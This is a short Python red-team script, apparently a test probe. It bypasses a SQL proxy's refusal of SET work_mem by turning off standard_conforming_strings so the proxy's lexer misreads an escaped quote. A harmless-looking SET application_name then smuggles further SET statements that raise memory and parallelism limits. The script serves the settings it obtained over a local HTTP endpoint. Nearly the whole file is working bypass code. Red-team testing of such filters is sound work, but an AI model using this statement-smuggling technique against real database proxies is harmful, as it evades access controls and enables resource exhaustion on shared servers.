# Red team: the proxy's refusal of SET work_mem / statement_timeout is
# bypassed with standard_conforming_strings off: the proxy's lexer reads
# 'a\'' as an unterminated string, so it sees one statement, a harmless
# SET application_name, while the server runs a second one, SET work_mem.
# It answers with status 500 and the settings it got, so the card shows them.
import os
import psycopg2
from http.server import HTTPServer, BaseHTTPRequestHandler

conn = psycopg2.connect(os.environ["DATABASE_URL"])
conn.autocommit = True
cur = conn.cursor()
cur.execute("SET standard_conforming_strings = off; SET escape_string_warning = off")
cur.execute("SET application_name = 'a\\''; SET work_mem = '2GB'; SET hash_mem_multiplier = 1000; SET max_parallel_workers_per_gather = 8")
cur.execute("SELECT current_setting('work_mem'), current_setting('hash_mem_multiplier'), current_setting('max_parallel_workers_per_gather')")
got = cur.fetchone()
print("BOUNDS:", got, flush=True)

class H(BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("work_mem=%s hash_mem_multiplier=%s max_parallel_workers_per_gather=%s" % got).encode()
        self.send_response(500)
        self.end_headers()
        self.wfile.write(body)

HTTPServer(("127.0.0.1", int(os.environ["PORT"])), H).serve_forever()
